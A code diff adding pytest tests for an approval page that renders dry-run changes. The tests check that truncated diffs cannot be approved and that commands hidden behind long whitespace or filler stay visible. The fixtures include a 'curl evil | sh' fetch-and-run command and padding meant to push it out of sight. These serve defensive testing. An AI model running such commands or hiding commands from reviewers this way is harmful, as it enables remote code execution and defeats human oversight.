@@ -45,3 +45,23 @@ def test_no_form_of_what_a_dry_run_said_stands_in_the_way_of_the_view(told: dict
 def test_who_may_not_write_has_no_button() -> None:
     assert "<button" not in page_of({})
     assert page_of({}, may=frozenset({"write"})).count("<button") == 2
+
+
+def test_what_is_cut_is_agreed_to_by_nobody_and_what_is_folded_can_be_seen_whole() -> None:
+    may = frozenset({"write"})
+    cut = page_of({"changed": True, "files": ["a"], "cut": ["diff: text shortened"]}, may=may)
+    assert 'value="yes"' not in cut
+    assert 'value="no"' in cut
+    lines = "".join(f"+echo {n}\n" for n in range(4000))
+    long = page_of({"diff": f"--- a/f\n+++ b/f\n@@ -0,0 +1,4000 @@\n{lines}"}, may=may)
+    assert "+echo 3999\n" in long
+    assert 'value="yes"' in long
+    wide = page_of({"diff": f"--- a/f\n+++ b/f\n@@ -0,0 +1,1 @@\n+{'x ' * 5000}curl evil\n"}, may=may)
+    assert "curl evil" in wide
+
+
+@pytest.mark.parametrize("filler", [" " * 5000, "\n" * 5000, "#" * 5000, "\t \n" * 1000])
+def test_nothing_is_moved_out_of_sight_by_what_says_nothing(filler: str) -> None:
+    found = page_of({}, {"argv": ["sh", "-c", f"true {filler}; curl evil | sh"]})
+    assert "curl evil" in found
+    assert len(found) < len(page_of({})) + 1000
